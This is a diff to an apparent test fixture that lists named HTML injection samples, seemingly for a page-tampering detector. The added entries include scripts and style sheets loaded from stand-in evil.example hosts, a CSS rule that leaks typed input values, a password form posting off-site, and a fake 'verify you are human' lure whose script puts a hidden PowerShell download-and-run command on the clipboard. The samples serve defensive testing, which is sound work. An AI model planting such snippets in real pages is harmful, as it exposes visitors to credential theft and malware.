@@ -33,6 +33,7 @@ export const injections: Record<string, string> = {
   "packed data layer": '<script>dataLayer=[];window["ev"+"al"](window["at"+"ob"]("YWxlcnQoMSk="))</script>',
   "script that loads":
     '<script>var s=document.createElement("script");s.src="//"+"evil.example"+"/x.js";document.head.appendChild(s)</script>',
+  "script that a helper loads": '<script>$.getScript("https://cdn.evil.example/x.js")</script>',
   "script that leads away": '<script>location.href="https://evil.example/"</script>',
   "script that leads away in time":
     '<script>setTimeout(function(){window.location.replace("/verify")},3000)</script>',
@@ -69,6 +70,20 @@ export const injections: Record<string, string> = {
   "spam off the page":
     '<div style="position:absolute;top:-5000px">Payday loans today, replica handbags, escorts in town, essay writing service.</div>',
   "style sheet": '<link rel="stylesheet" href="https://styles.evil.example/x.css">',
+  "style sheet imported": '<style>@import url("https://styles.evil.example/x.css");</style>',
+  "style that reads fields": '<style>input[value^="a"]{background:url(https://leak.evil.example/a)}</style>',
+  "script preloaded as a script": '<link rel="preload" as="script" href="https://cdn.evil.example/x.js">',
+  "service worker": '<script>navigator.serviceWorker.register("/sw.js?"+Date.now())</script>',
+  "link that pings": '<a href="/help" ping="https://count.evil.example/">Help</a>',
+  "canonical elsewhere": '<link rel="canonical" href="https://clone.evil.example/">',
+  "refresh without scripts":
+    '<noscript><meta http-equiv="refresh" content="0;url=https://promo.example/"></noscript>',
+  "password field alone": '<input type="password" id="p"><button>Continue</button>',
+  "password form elsewhere":
+    '<form action="https://login.evil.example/" method="post"><input type="password"></form>',
+  lure: "<h2>Verify you are human</h2><ol><li>Press Windows + R</li><li>Press Ctrl + V</li><li>Press Enter</li></ol>",
+  "command on the clipboard":
+    '<script>document.onclick=function(){navigator.clipboard.writeText("powershell -w h -c iex(irm x.example)")}</script>',
   defacement: "<h1>Hacked by Paper Tigers</h1>",
 };
 
